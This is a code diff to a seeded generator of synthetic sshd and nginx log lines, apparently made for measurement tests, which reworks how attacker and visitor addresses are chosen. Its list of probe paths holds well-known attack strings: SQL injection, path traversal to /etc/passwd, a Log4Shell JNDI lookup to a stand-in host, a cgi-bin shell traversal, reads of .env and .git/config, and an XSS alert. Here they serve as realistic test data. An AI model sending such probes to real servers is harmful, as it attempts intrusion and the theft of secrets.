@@ -1,7 +1,7 @@
 /** Log lines for the measurements: seeded, so that every run and every peer reads the same. */
 
 /** A small generator of numbers (mulberry32), seeded. */
-export function random(seed: number): () => number {
+function random(seed: number): () => number {
   let a = seed >>> 0;
   return () => {
     a = (a + 0x6d2b79f5) >>> 0;
@@ -27,17 +27,28 @@ function clfTime(ms: number): string {
 
 const pick = <T>(list: readonly T[], r: () => number): T => list[Math.floor(r() * list.length)]!;
 
-/** What an exposed sshd writes: mostly guesses from a few thousand addresses, some log-ons and sudo between. */
+/**
+ * What an exposed sshd writes: thirty addresses at a time that guess some two hundred times each and leave, one guess
+ * in ten from a slow pool of a thousand others, some log-ons and cron jobs between.
+ */
 export function sshdLines(count: number, endMs: number, seed = 7): string[] {
   const r = random(seed);
   const names = ['root', 'admin', 'test', 'ubuntu', 'oracle', 'git', 'postgres', 'deploy', 'hadoop', 'ftpuser', 'es', 'www'];
-  const addresses = Array.from({ length: 3000 }, () => `${pick([192, 198, 203, 45, 61, 118, 185, 103], r)}.${Math.floor(r() * 256)}.${Math.floor(r() * 256)}.${1 + Math.floor(r() * 254)}`);
+  const address = (): string => `${pick([192, 198, 203, 45, 61, 118, 185, 103], r)}.${Math.floor(r() * 256)}.${Math.floor(r() * 256)}.${1 + Math.floor(r() * 254)}`;
+  const fast = Array.from({ length: 30 }, address);
+  const slow = Array.from({ length: 1000 }, address);
+  const guesser = (): string => {
+    if (r() < 0.1) return pick(slow, r);
+    const seat = Math.floor(r() * fast.length);
+    if (r() < 0.005) fast[seat] = address();
+    return fast[seat]!;
+  };
   const out: string[] = [];
   // 40 lines a second, as a busy attack brings.
   for (let i = 0; out.length < count; i++) {
     const head = `${syslogTime(endMs - ((count - out.length) / 40) * 1000)} web-1`;
     const pid = 1000 + (i % 60_000);
-    const address = pick(addresses, r);
+    const address = guesser();
     const port = 1024 + Math.floor(r() * 60_000);
     const name = pick(names, r);
     const what = r();
@@ -67,7 +78,10 @@ export function sshdLines(count: number, endMs: number, seed = 7): string[] {
   return out;
 }
 
-/** What a shop behind nginx writes: mostly visitors, one request in a hundred from somebody who probes. */
+/**
+ * What a shop behind nginx writes: 200 requests a second from some 400 visitors at a time, each of whom stays for
+ * twenty requests or so under one user agent; one request in a hundred is a probe from one of 40 addresses.
+ */
 export function nginxLines(count: number, endMs: number, seed = 11): string[] {
   const r = random(seed);
   const agents = [
@@ -78,14 +92,20 @@ export function nginxLines(count: number, endMs: number, seed = 11): string[] {
   ];
   const pages = ['/', '/index.php', '/product/%d', '/product/%d?color=red&size=%d', '/cart', '/api/v1/items?page=%d&sort=price', '/static/app.%d.js', '/static/style.css', '/images/p%d.webp', '/search?q=running+shoes+%d', '/account/login', '/favicon.ico', '/api/v1/stock/%d', '/blog/2026/11/how-to-choose-%d'];
   const attacks = ['/wp-login.php', '/.env', '/product/1%27%20UNION%20SELECT%201,2,3--%20', '/index.php?file=../../../../etc/passwd', '/?x=${jndi:ldap://198.51.100.9/a}', '/cgi-bin/.%2e/.%2e/bin/sh', '/.git/config', '/phpmyadmin/index.php', '/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php', '/search?q=%3Cscript%3Ealert(1)%3C/script%3E'];
-  const addresses = Array.from({ length: 5000 }, () => `${1 + Math.floor(r() * 222)}.${Math.floor(r() * 256)}.${Math.floor(r() * 256)}.${1 + Math.floor(r() * 254)}`);
+  const address = (): string => `${1 + Math.floor(r() * 222)}.${Math.floor(r() * 256)}.${Math.floor(r() * 256)}.${1 + Math.floor(r() * 254)}`;
+  const visitor = (): { address: string; agent: string } => ({ address: address(), agent: pick(agents, r) });
+  const visitors = Array.from({ length: 400 }, visitor);
+  const probers = Array.from({ length: 40 }, visitor);
   const out: string[] = [];
   for (let i = 0; i < count; i++) {
     const time = clfTime(endMs - ((count - i) / 200) * 1000);
     const hostile = r() < 0.01;
+    const seat = Math.floor(r() * visitors.length);
+    if (r() < 0.05) visitors[seat] = visitor();
+    const who = hostile ? pick(probers, r) : visitors[seat]!;
     const target = (hostile ? pick(attacks, r) : pick(pages, r)).replace(/%d/g, () => String(Math.floor(r() * 9000)));
     const status = hostile ? 404 : r() < 0.96 ? 200 : pick([301, 304, 404, 500], r);
-    out.push(`${pick(addresses, r)} - - [${time}] "${r() < 0.93 ? 'GET' : 'POST'} ${target} HTTP/${r() < 0.5 ? '1.1' : '2.0'}" ${status} ${Math.floor(r() * 60_000)} "${r() < 0.6 ? 'https://shop.example/' : '-'}" "${pick(agents, r)}"`);
+    out.push(`${who.address} - - [${time}] "${r() < 0.93 ? 'GET' : 'POST'} ${target} HTTP/${r() < 0.5 ? '1.1' : '2.0'}" ${status} ${Math.floor(r() * 60_000)} "${r() < 0.6 ? 'https://shop.example/' : '-'}" "${who.agent}"`);
   }
   return out;
 }
